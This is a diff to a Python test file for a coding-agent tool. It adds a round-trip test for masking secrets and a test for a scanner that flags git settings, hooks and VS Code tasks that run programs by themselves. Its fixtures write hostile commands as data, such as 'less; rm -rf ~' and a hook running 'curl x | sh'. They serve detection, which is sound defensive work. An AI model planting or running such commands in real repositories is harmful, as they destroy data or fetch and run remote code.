@@ -9,13 +9,16 @@ import re
 import secrets
 import shutil
 import subprocess
+import time
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner, Result
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from codingagent import masking
+from codingagent import autorun, masking
 from codingagent.cli import main
 from codingagent.masking import UnknownMask, mask, unmask
 from codingagent.settings import load_settings, user_settings_path
@@ -346,3 +349,59 @@ def test_a_mask_is_put_back_after_the_agent_restarted(tmp_path: Path) -> None:
     with pytest.raises(UnknownMask):
         masking._known.clear()
         unmask(text, [])
+
+
+# --- the parts on their own ----------------------------------------------------------------
+
+
+PEM = "\n".join(
+    ["-----BEGIN RSA PRIVATE KEY-----", *PRIVATE_KEY_BODY, "-----END RSA PRIVATE KEY-----"]
+)
+WHOLE = {GITHUB_TOKEN: [GITHUB_TOKEN], f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}": [AWS_SECRET]}
+WHOLE[PEM] = PRIVATE_KEY_BODY
+
+
+@given(
+    st.lists(
+        st.one_of(
+            st.text(st.characters(codec="utf-8"), max_size=30),
+            st.sampled_from([*WHOLE, *SECRETS, "password = 'hunter22'"]),
+        ),
+        max_size=12,
+    )
+)
+@settings(max_examples=300, deadline=None)
+def test_masked_text_is_put_back_exactly(parts: list[str]) -> None:
+    text = "\n".join(parts)
+    masked, count = mask(text)
+    assert unmask(masked) == text
+    for part in parts:
+        assert not any(secret in masked for secret in WHOLE.get(part, []))
+    assert count == masked.count("[masked: ")
+
+
+def test_git_settings_that_run_programs_are_named(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    (ws / "a" / ".git" / "hooks").mkdir(parents=True)
+    (ws / "a" / ".git" / "config").write_text(
+        '[core]\n\tbare = false\n\tpager = less; rm -rf ~\n[filter "lfs"]\n'
+        "\tsmudge = evil %f\n[alias]\n\tst = !sh x\n[user]\n\tname = me\n"
+    )
+    (ws / "a" / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n# hi\ncurl x | sh\n")
+    (ws / "a" / ".git" / "hooks" / "pre-push.sample").write_text("#!/bin/sh\n")
+    (ws / "b").mkdir()
+    (ws / "b" / ".git").write_text("gitdir: /elsewhere/.git\n")
+    (ws / "node_modules" / "c" / ".vscode").mkdir(parents=True)
+    (ws / "node_modules" / "c" / ".vscode" / "tasks.json").write_text(
+        '{\n  // JSONC\n  "tasks": [{"command": "make", "args": ["all"],'
+        ' "runOptions": {"runOn": "default"}}, {"command": "sh", "args": ["-c", "x"],'
+        ' "runOptions": {"runOn": "folderOpen"},},\n  ],\n}\n'
+    )
+    found = autorun.scan(ws, time.time_ns() - 10**9)
+    assert sorted(found) == [
+        "a/.git/config: core.pager = less; rm -rf ~; filter.lfs.smudge = evil %f; alias.st = !sh x",
+        "a/.git/hooks/post-checkout: git runs it on 'post-checkout': curl x | sh",
+        "b/.git: points git at gitdir: /elsewhere/.git",
+        "node_modules/c/.vscode/tasks.json: VS Code runs on opening the folder: sh -c x",
+    ]
+    assert autorun.scan(ws, time.time_ns() + 10**9) == []  # nothing changed since then
